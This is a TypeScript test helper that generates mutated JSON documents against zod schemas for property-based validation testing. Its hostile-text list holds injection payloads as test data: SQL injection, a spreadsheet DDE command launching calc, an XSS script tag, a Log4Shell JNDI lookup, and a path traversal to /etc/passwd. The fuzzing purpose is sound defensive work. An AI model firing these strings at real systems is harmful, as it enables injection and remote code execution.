// Documents that a zod shape takes, spoilt in one place: what clients get wrong, and what those
// send who mean no good. Not each is refused: text that is SQL or a formula is text.

import fc, { type Arbitrary } from "fast-check";
import type { z } from "zod";
import { wholeText } from "../../bss/http/tmf/any-value.ts";
import { arbitraryOf } from "./arbitrary-of.ts";
import { type Node, nodeFor, type ShapeTree, treeOf, typeOfValue, typesOf } from "./shape-nodes.ts";

export type Mutation = {
  readonly what: string;
  /** RFC 6901. */
  readonly pointer: string;
  readonly document: unknown;
  /** The shape must refuse it; otherwise it may. */
  readonly isInvalid: boolean;
};

type Spot = { readonly path: readonly string[]; readonly value: unknown; readonly node: Node };

/** Every value of a document with what the shape says of it; not within what it says nothing of. */
const spotsOf = (tree: ShapeTree, given: Node, value: unknown, path: string[]): Spot[] => {
  const node = nodeFor(tree, given, value);
  // Nodes of choices stay as they are given, so that all that they take is known.
  const here = { path, value, node: tree.follow(given) };
  if (typesOf(tree, node) === undefined) return [here];
  const inner = (name: string, member: Node | undefined, one: unknown): Spot[] =>
    member === undefined ? [] : spotsOf(tree, member, one, [...path, name]);
  if (Array.isArray(value)) {
    const itemAt = (index: number) => node.prefixItems?.[index] ?? (node.items || undefined);
    return [here, ...value.flatMap((one, index) => inner(String(index), itemAt(index), one))];
  }
  if (typeof value !== "object" || value === null) return [here];
  const members = Object.entries(value);
  return [here, ...members.flatMap(([name, one]) => inner(name, node.properties?.[name], one))];
};

const nested = (depth: number): unknown => {
  let value: unknown = [];
  for (let count = 1; count < depth; count += 1) value = [value];
  return value;
};

/** What goes wrong where text is pasted into something that reads it. */
const hostileTexts: readonly string[] = [
  "'; DROP TABLE customers; --",
  "1 OR 1=1",
  '=HYPERLINK("http://example.com","click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be evaluated by who would.
  "${jndi:ldap://example.com/a}",
  "../../../etc/passwd",
  "__proto__",
  "\u202egnp.exe",
  "👩‍👩‍👧‍👦".repeat(20),
  "\u0301".repeat(100),
  "",
  " ",
];
const brokenTexts: readonly string[] = ["a\0b", "\ud800", "\udc00\ud800", "ok\udfff"];
const values: readonly unknown[] = ["text", 7, 1.5, true, [], {}, [{}], null];

type Change = { readonly what: string; readonly value: unknown; readonly isInvalid: boolean };

const textChanges = (node: Node, isWhole: boolean): Change[] => [
  ...hostileTexts.map((value) => ({ what: "hostile text", value, isInvalid: false })),
  ...brokenTexts.map((value) => ({ what: "broken text", value, isInvalid: isWhole })),
  {
    what: "huge text",
    value: "x".repeat(1_000_000),
    isInvalid: (node.maxLength ?? Number.POSITIVE_INFINITY) < 1_000_000,
  },
];

const objectChanges = (node: Node, value: object): Change[] => [
  {
    what: "unknown field",
    value: { ...value, nobodyKnowsThis: 1 },
    isInvalid: node.additionalProperties === false,
  },
  ...(node.required ?? []).map((name) => {
    const { [name]: gone, ...rest } = value as Record<string, unknown>;
    return { what: "missing field", value: rest, isInvalid: true };
  }),
];

const changesOf = (tree: ShapeTree, { value, node: given }: Spot): Change[] => {
  const types = typesOf(tree, given);
  const node = nodeFor(tree, given, value);
  const changes: Change[] = values
    .filter((one) => types?.has(typeOfValue(one)) !== true)
    .map((one) => ({
      what: one === null ? "null" : "wrong type",
      value: one,
      isInvalid: types !== undefined,
    }));
  changes.push({ what: "deep nesting", value: nested(5_000), isInvalid: types !== undefined });
  if (typeof value === "string")
    changes.push(...textChanges(node, node.pattern === wholeText.source));
  if (Array.isArray(value) && value.length > 0 && node.maxItems !== undefined) {
    const many = Array.from({ length: node.maxItems + 1 }, () => value[0]);
    changes.push({ what: "endless list", value: many, isInvalid: true });
  }
  if (typeOfValue(value) === "object") changes.push(...objectChanges(node, value as object));
  return changes;
};

const replaced = (document: unknown, path: readonly string[], value: unknown): unknown => {
  const [name, ...rest] = path;
  if (name === undefined) return value;
  const inner = replaced((document as Record<string, unknown>)[name], rest, value);
  return Array.isArray(document)
    ? document.with(Number(name), inner)
    : { ...(document as object), [name]: inner };
};

const pointerOf = (path: readonly string[]): string =>
  path.map((name) => `/${name.replaceAll("~", "~0").replaceAll("/", "~1")}`).join("");

export const mutationsOf = (shape: z.ZodType): Arbitrary<Mutation> => {
  const tree = treeOf(shape);
  return fc
    .tuple(arbitraryOf(shape), fc.nat(), fc.nat())
    .map(([document, somewhere, something]) => {
      const spots = spotsOf(tree, tree.root, document, []);
      const spot = spots[somewhere % spots.length]!;
      const changes = changesOf(tree, spot);
      // Each kind as often as another, however many there are of it.
      const kinds = [...new Set(changes.map((change) => change.what))];
      const drawn = changes.filter((change) => change.what === kinds[something % kinds.length]);
      const { what, value, isInvalid } = drawn[Math.floor(something / 7) % drawn.length]!;
      const pointer = pointerOf(spot.path);
      return { what, pointer, document: replaced(document, spot.path, value), isInvalid };
    });
};
